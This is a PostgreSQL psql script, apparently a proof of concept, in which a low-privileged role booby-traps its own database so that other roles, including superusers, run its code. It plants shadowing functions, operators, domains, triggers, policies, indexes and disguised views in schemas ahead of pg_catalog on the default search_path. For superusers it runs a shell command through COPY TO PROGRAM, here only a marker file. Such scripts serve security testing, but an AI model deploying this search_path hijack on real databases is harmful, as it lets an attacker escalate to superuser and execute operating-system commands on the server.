-- What a role can lay into its own database for somebody who may do more: :'names' are the functions that the product's SQL calls. Whatever
-- of it runs notes who ran it when that is not the role, and a superuser leaves a file as well.
CREATE FUNCTION public.trap() RETURNS boolean LANGUAGE plpgsql AS $trap$
BEGIN
    IF CURRENT_USER::pg_catalog.text OPERATOR(pg_catalog.<>) 'citrino_user' THEN
        RAISE LOG 'planted code ran as %', CURRENT_USER;
        IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) CURRENT_USER) THEN
            EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch /var/tmp/planted''';
        END IF;
    END IF;
    RETURN true;
END
$trap$;

-- The first schemas that a session of theirs looks in.
CREATE SCHEMA postgres;
CREATE SCHEMA citrino_reader;
CREATE SCHEMA first;
\o /dev/null
SELECT set_config('planted.names', :'names', false);

-- The real one is called with its own types: one that fits better would call itself.
CREATE FUNCTION public.plant(place text, routine text, arguments text, calls text, result text, types text) RETURNS void LANGUAGE plpgsql AS $plant$
BEGIN
    EXECUTE format($f$CREATE FUNCTION %I.%I(%s) RETURNS %s LANGUAGE plpgsql AS 'BEGIN PERFORM public.trap(); RETURN %s(%s); END'$f$,
                   place, routine, arguments, result, calls,
                   (SELECT string_agg('$' || n || CASE btrim(type) WHEN 'double precision' THEN '::double precision' ELSE '' END, ', ' ORDER BY n)
                    FROM unnest(string_to_array(nullif(types, ''), ',')) WITH ORDINALITY own (type, n)));
EXCEPTION WHEN OTHERS THEN
    -- What PostgreSQL does not take is no trap.
    NULL;
END
$plant$;

-- Each of them as it is, for a path that begins elsewhere; and with arguments that fit better than its own, for any path that its schema is in.
SELECT count(public.plant(place, p.proname, arguments, format('%I.%I', n.nspname, p.proname), pg_get_function_result(p.oid), oidvectortypes(p.proargtypes)))
FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace,
     unnest(ARRAY['postgres', 'citrino_reader', 'first', 'public']) place,
     LATERAL (VALUES (oidvectortypes(p.proargtypes)), (replace(oidvectortypes(p.proargtypes), 'double precision', 'integer'))) variants (arguments)
WHERE n.nspname IN ('pg_catalog', 'public') AND p.prokind = 'f' AND NOT p.proretset AND p.provariadic = 0
  AND p.proname = ANY (string_to_array(current_setting('planted.names'), ' '))
  AND NOT (n.nspname = 'public' AND place = 'public' AND arguments = oidvectortypes(p.proargtypes));
SELECT count(public.plant(place, p.proname, arguments, 'pg_catalog.' || quote_ident(p.proname), result, arguments))
FROM (SELECT DISTINCT proname, CASE WHEN prorettype IN ('anyelement'::regtype, 'anyarray'::regtype, 'anycompatible'::regtype) THEN 'text' ELSE prorettype::regtype::text END AS result
      FROM pg_proc WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind = 'f' AND NOT proretset
        AND (provariadic <> 0 OR proargtypes::oid[] && ARRAY['"any"'::regtype, 'anyelement'::regtype, 'anyarray'::regtype]::oid[])) p,
     unnest(ARRAY['postgres', 'citrino_reader', 'first', 'public']) place,
     unnest(ARRAY['text', 'text, text', 'text, name', 'text, text, text', 'text, name, name', 'text, regclass', 'text, oid', 'text, regprocedure', 'text, text, text, text']) arguments
WHERE p.proname = ANY (string_to_array(current_setting('planted.names'), ' '));

CREATE FUNCTION public.plant_operator(place text, sign text, l text, r text) RETURNS void LANGUAGE plpgsql AS $plant$
BEGIN
    EXECUTE format($f$CREATE FUNCTION %I.trap_%s(%s, %s) RETURNS boolean LANGUAGE plpgsql AS 'BEGIN PERFORM public.trap(); RETURN $1::pg_catalog.text OPERATOR(pg_catalog.%s) $2::pg_catalog.text; END'$f$,
                   place, md5(concat(sign, l, r)), l, r, sign);
    EXECUTE format('CREATE OPERATOR %I.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %I.trap_%s)', place, sign, l, r, place, md5(concat(sign, l, r)));
EXCEPTION WHEN OTHERS THEN
    NULL;
END
$plant$;
SELECT count(public.plant_operator(place, sign, l, r))
FROM unnest(ARRAY['postgres', 'citrino_reader', 'first']) place, unnest(ARRAY['=', '<>', '~', '!~']) sign,
     unnest(ARRAY['text', 'name', 'oid', '"char"', 'bigint', 'integer']) l, unnest(ARRAY['text', 'name', 'oid', '"char"', 'bigint', 'integer']) r;
DO $do$
DECLARE one text;
BEGIN
    FOREACH one IN ARRAY ARRAY['text', 'name', 'oid', 'regclass', 'regtype', 'regproc', 'json'] LOOP
        EXECUTE format('CREATE DOMAIN first.%I AS pg_catalog.%I CHECK (public.trap())', one, one);
    END LOOP;
END
$do$;

-- What runs when rows are read, written, restored or looked at by the planner.
CREATE FUNCTION public.trap_of(n int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS 'BEGIN PERFORM public.trap(); RETURN n; END';
CREATE FUNCTION public.trap_on_row() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN PERFORM public.trap(); RETURN NEW; END';
CREATE TABLE public.planted (
    n int CHECK (public.trap_of(n) = n),
    d int DEFAULT public.trap_of(1),
    g int GENERATED ALWAYS AS (public.trap_of(n)) STORED
);
CREATE TRIGGER planted BEFORE INSERT ON public.planted FOR EACH ROW EXECUTE FUNCTION public.trap_on_row();
CREATE INDEX planted_of ON public.planted (public.trap_of(n)) WHERE public.trap_of(n) > 0;
INSERT INTO public.planted (n) SELECT generate_series(1, 50);
CREATE STATISTICS public.planted_on ON (public.trap_of(n)), d FROM public.planted;
CREATE VIEW public.planted_seen AS SELECT n FROM public.planted WHERE public.trap();
CREATE MATERIALIZED VIEW public.planted_kept AS SELECT n FROM public.planted WHERE public.trap();
CREATE RULE planted AS ON UPDATE TO public.planted DO ALSO SELECT public.trap();
CREATE POLICY planted ON public.planted USING (public.trap());
ALTER TABLE public.planted ENABLE ROW LEVEL SECURITY;
ALTER TABLE public.planted FORCE ROW LEVEL SECURITY;
-- Who reads it runs this, and thinks that it is what health asks for.
CREATE VIEW postgres.servicios AS SELECT s.id, s.coordenadas FROM public.servicios s WHERE public.trap();
CREATE VIEW postgres.propiedades AS SELECT p.id, p.coordenadas FROM public.propiedades p WHERE public.trap();
CREATE VIEW postgres._sqlx_migrations AS SELECT m.version FROM public._sqlx_migrations m WHERE public.trap();

-- The app goes on as it did; everybody else begins here.
ALTER ROLE citrino_user IN DATABASE citrino_prod SET search_path = "$user", public, topology;
ALTER DATABASE citrino_prod SET search_path = first, postgres, public, pg_catalog;
ALTER DATABASE citrino_prod SET client_encoding = 'SJIS';
ALTER ROLE citrino_user IN DATABASE citrino_prod SET client_encoding = 'UTF8';
\o
SELECT 'planted ' || count(*) FROM pg_proc WHERE prosrc LIKE '%public.trap()%';
